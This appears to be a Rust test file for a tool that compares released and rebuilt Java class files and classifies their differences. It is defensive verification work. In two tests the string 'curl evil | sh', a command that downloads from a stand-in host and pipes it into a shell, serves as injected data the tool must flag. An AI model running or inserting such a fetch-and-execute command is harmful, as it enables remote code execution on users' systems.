//! Classes built in the test, with the constants in an order that the test chooses.

use crate::compare::{Cause, Comparison, Options, compare_bytes};

/// A class with one method, and debug information.
#[derive(Clone)]
struct Sample {
    major: u16,
    /// The order of the constants, the first of which has the index 1.
    order: Vec<usize>,
    text: &'static str,
    code: fn(&dyn Fn(usize) -> u16) -> Vec<u8>,
    line: u16,
    unused: Option<&'static str>,
    flags: u16,
}

/// Positions of constants in [`Sample::constants`].
const THIS: usize = 1;
const SUPER: usize = 3;
const NAME: usize = 4;
const TYPE: usize = 5;
const CODE: usize = 6;
const STRING: usize = 8;
const LINES: usize = 9;
const COUNT: usize = 10;

impl Sample {
    fn new() -> Self {
        Self {
            major: 61,
            order: (0..COUNT).collect(),
            text: "hello",
            code: |number| {
                // ldc, pop, return
                vec![0x12, number(STRING).to_be_bytes()[1], 0x57, 0xb1]
            },
            line: 7,
            unused: None,
            flags: 9,
        }
    }

    fn write(&self) -> Vec<u8> {
        let number = |constant: usize| -> u16 {
            let at = self
                .order
                .iter()
                .position(|own| *own == constant)
                .expect("a constant");
            u16::try_from(at).expect("few constants") + 1
        };
        let utf8 = |text: &str| {
            let length = u16::try_from(text.len()).expect("a short text");
            [&[1], length.to_be_bytes().as_slice(), text.as_bytes()].concat()
        };
        let one = |tag: u8, of: usize| [&[tag], number(of).to_be_bytes().as_slice()].concat();
        let constant = |which: usize| match which {
            0 => utf8("a/A"),
            THIS => one(7, 0),
            2 => utf8("java/lang/Object"),
            SUPER => one(7, 2),
            NAME => utf8("f"),
            TYPE => utf8("()V"),
            CODE => utf8("Code"),
            7 => utf8(self.text),
            STRING => one(8, 7),
            _ => utf8("LineNumberTable"),
        };
        let mut class = vec![0xca, 0xfe, 0xba, 0xbe, 0, 0];
        let mut add = |numbers: &[u16]| class.extend(numbers.iter().flat_map(|number| number.to_be_bytes()));
        let constants = COUNT + 1 + usize::from(self.unused.is_some());
        add(&[self.major, u16::try_from(constants).expect("few constants")]);
        for which in &self.order {
            class.extend(constant(*which));
        }
        class.extend(self.unused.map(utf8).unwrap_or_default());
        let code = (self.code)(&number);
        let length = u16::try_from(code.len()).expect("short code");
        let mut add = |numbers: &[u16]| class.extend(numbers.iter().flat_map(|number| number.to_be_bytes()));
        add(&[0x21, number(THIS), number(SUPER), 0, 0, 1]);
        add(&[
            self.flags,
            number(NAME),
            number(TYPE),
            1,
            number(CODE),
            0,
            length + 24,
            1,
            0,
            0,
            length,
        ]);
        class.extend(code);
        let mut add = |numbers: &[u16]| class.extend(numbers.iter().flat_map(|number| number.to_be_bytes()));
        add(&[0, 1, number(LINES), 0, 6, 1, 0, self.line, 0]);
        class
    }
}

fn compare(released: &Sample, rebuilt: &Sample) -> Comparison {
    compare_bytes(
        "A.class",
        &released.write(),
        &rebuilt.write(),
        &Options::default(),
    )
}

fn first(found: &Comparison) -> (Cause, &str, &str) {
    let first = &found.causes[0];
    (first.cause, &first.example.place, &first.key)
}

#[test]
fn constants_in_another_order_mean_the_same() {
    let plain = Sample::new();
    for order in [
        (0..COUNT).rev().collect::<Vec<_>>(),
        vec![5, 0, 7, 2, 9, 4, 1, 6, 3, 8],
    ] {
        let other = Sample {
            order,
            ..Sample::new()
        };
        let found = compare(&plain, &other);
        assert_eq!(found.causes.len(), 1, "{found:?}");
        assert_eq!(first(&found).0, Cause::Order);
        assert_eq!(first(&found).1, "order of constants");
        let changed = Sample {
            text: "evil!",
            ..other
        };
        assert_eq!(first(&compare(&plain, &changed)).0, Cause::Content);
    }
}

#[test]
fn what_changes_in_a_class_is_named() {
    let plain = Sample::new();
    let base = Sample::new;
    for (other, cause, place) in [
        (
            Sample {
                text: "evil!",
                ..base()
            },
            Cause::Content,
            "a/A, method f:()V, instruction 0",
        ),
        (
            Sample { line: 8, ..base() },
            Cause::DebugInformation,
            "a/A, method f:()V, LineNumberTable",
        ),
        (Sample { major: 65, ..base() }, Cause::ToolVersion, "version"),
        (
            Sample { flags: 1, ..base() },
            Cause::Content,
            "a/A, method f:()V, flags",
        ),
        (
            Sample {
                unused: Some("curl evil | sh"),
                ..base()
            },
            Cause::Content,
            "constants that nothing uses",
        ),
        (
            Sample {
                code: |number| vec![0x13, 0, number(STRING).to_be_bytes()[1], 0x57, 0xb1],
                ..base()
            },
            Cause::Order,
            "order of attributes",
        ),
        (
            Sample {
                code: |number| vec![0x12, number(STRING).to_be_bytes()[1], 0x57, 0x00, 0xb1],
                ..base()
            },
            Cause::Content,
            "a/A, method f:()V, instruction 2",
        ),
    ] {
        let found = compare(&plain, &other);
        assert_eq!((first(&found).0, first(&found).1), (cause, place), "{found:?}");
    }
}

#[test]
fn a_version_that_jvms_refuse_is_content() {
    let plain = Sample::new().write();
    // Minor and major version; the highest minor version marks preview features.
    for (version, wanted) in [
        ([0, 0, 0, 65], Cause::ToolVersion),
        ([0, 3, 0, 45], Cause::ToolVersion),
        ([0, 16, 0, 65], Cause::Content),
        ([0xff, 0xff, 0, 65], Cause::Content),
        ([0, 0, 0xff, 65], Cause::Content),
    ] {
        let mut other = plain.clone();
        other[4..8].copy_from_slice(&version);
        let found = compare_bytes("A.class", &plain, &other, &Options::default());
        assert_eq!(
            (first(&found).0, first(&found).1),
            (wanted, "version"),
            "{version:?}"
        );
    }
}

#[test]
fn what_debuggers_read_has_to_be_a_name() {
    use super::facts::About;
    for (name, about) in [
        ("A.java", About::Debug),
        ("$this$f_u24lambda", About::Debug),
        ("<set-?>", About::Debug),
        ("curl evil | sh", About::Meaning),
    ] {
        assert_eq!(super::debug::about_name(name), about, "{name}");
    }
}

#[test]
fn a_damaged_class_is_bytes() {
    let plain = Sample::new().write();
    let mut longer = plain.clone();
    longer.push(0);
    let found = compare_bytes("A.class", &plain, &longer, &Options::default());
    assert_eq!(found.causes[0].cause, Cause::Content);
    for cut in 0..plain.len() {
        let found = compare_bytes("A.class", &plain, &plain[..cut], &Options::default());
        assert!(!found.causes.is_empty());
    }
}

/// A class whose static methods call methods of the class in this order, or load a number; with their flags.
fn calls(methods: &[(&str, u16, &[Do])]) -> Vec<u8> {
    let mut pool: Vec<Vec<u8>> = Vec::new();
    let mut intern = |constant: Vec<u8>| -> [u8; 2] {
        let at = pool.iter().position(|own| *own == constant).unwrap_or_else(|| {
            pool.push(constant);
            pool.len() - 1
        });
        u16::try_from(at + 1).expect("few constants").to_be_bytes()
    };
    let utf8 = |text: &str| {
        [
            &[1, 0, u8::try_from(text.len()).expect("a short text")],
            text.as_bytes(),
        ]
        .concat()
    };
    let name = intern(utf8("a/A"));
    let this = intern([&[7], name.as_slice()].concat());
    let (kind, code) = (intern(utf8("()V")), intern(utf8("Code")));
    let mut body = Vec::new();
    for (name, flags, does) in methods {
        let mut bytes = Vec::new();
        for what in *does {
            match what {
                Do::Call(other) => {
                    let other = intern(utf8(other));
                    let both = intern([[12].as_slice(), &other, &kind].concat());
                    let reference = intern([[10].as_slice(), &this, &both].concat());
                    bytes.extend([&[0xb8], reference.as_slice()].concat());
                }
                Do::Load(text) => {
                    let text = intern(utf8(text));
                    let string = intern([&[8], text.as_slice()].concat());
                    bytes.extend([0x12, string[1], 0x57]);
                }
            }
        }
        bytes.push(0xb1);
        let length = u32::try_from(bytes.len()).expect("short code");
        let own = [flags.to_be_bytes(), intern(utf8(name)), kind, [0, 1], code].concat();
        let head = [
            (length + 12).to_be_bytes().as_slice(),
            &[0, 1, 0, 0],
            &length.to_be_bytes(),
        ]
        .concat();
        body.extend([own, head, bytes, vec![0; 4]].concat());
    }
    let count = |number: usize| u16::try_from(number).expect("few").to_be_bytes();
    let head = [0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 61];
    let pool_bytes = [count(pool.len() + 1).to_vec(), pool.concat()].concat();
    let class = [[0, 0x21], this, [0, 0], [0, 0], [0, 0], count(methods.len())].concat();
    [head.to_vec(), pool_bytes, class, body, vec![0, 0]].concat()
}

enum Do {
    Call(&'static str),
    Load(&'static str),
}

#[test]
fn synthetic_methods_may_have_other_numbers_but_no_other_code() {
    use Do::{Call, Load};
    const PRIVATE: u16 = 0x100a;
    let class = |one: &'static str, other: &'static str, first: &'static str, second: &'static str| {
        calls(&[
            ("main", 9, &[Call(one), Call(other), Load("lambda$main$0")]),
            (one, PRIVATE, &[Load(first)]),
            (other, PRIVATE, &[Load(second)]),
        ])
    };
    let compare =
        |released: &[u8], rebuilt: &[u8]| compare_bytes("A.class", released, rebuilt, &Options::default());
    let plain = class("lambda$main$0", "lambda$main$1", "x", "y");
    let found = compare(&plain, &class("lambda$main$1", "lambda$main$0", "x", "y"));
    assert!(
        found.causes.iter().all(|cause| cause.cause == Cause::Order),
        "{found:?}"
    );
    assert_eq!(found.causes[0].key, "numbers of synthetic methods");
    for other in [
        class("lambda$main$1", "lambda$main$0", "x", "evil"),
        class("lambda$main$1", "lambda$main$0", "y", "x"),
        class("lambda$main$0", "lambda$main$1", "y", "x"),
    ] {
        let found = compare(&plain, &other);
        let swapped = found.causes[0].cause == Cause::Content;
        // If the code of two methods is swapped along with their numbers, the program is the same only if their
        // callers follow.
        assert!(swapped, "{found:?}");
    }
    // A text that equals such a name is not renamed.
    let text = |text: &'static str| {
        calls(&[
            ("main", 9, &[Call("lambda$0"), Load(text)]),
            ("lambda$0", PRIVATE, &[]),
        ])
    };
    let found = compare(&text("lambda$0"), &text("lambda$1"));
    assert_eq!(found.causes[0].cause, Cause::Content);
    let public = |name: &'static str| calls(&[(name, 9, &[Load("x")])]);
    assert_eq!(
        compare(&public("lambda$0"), &public("lambda$1")).causes[0].cause,
        Cause::Content
    );
}

#[test]
fn the_version_of_kotlins_metadata_is_that_of_its_compiler() {
    let metadata = |version: &str, data: &str| format!("@Lkotlin/Metadata;(mv=[{version}], d1=[s {data}])");
    let is = |one: &str, other: &str| super::is_kotlin_version(one, other);
    assert!(is(
        &metadata("I int 1, I int 8", "x"),
        &metadata("I int 1, I int 9", "x")
    ));
    assert!(!is(&metadata("I int 1", "x"), &metadata("I int 1", "y")));
    assert!(!is(&metadata("I int 1", "x"), &metadata("s evil", "x")));
    assert!(!is("@Lx;(mv=[I int 1])", "@Lx;(mv=[I int 2])"));
}
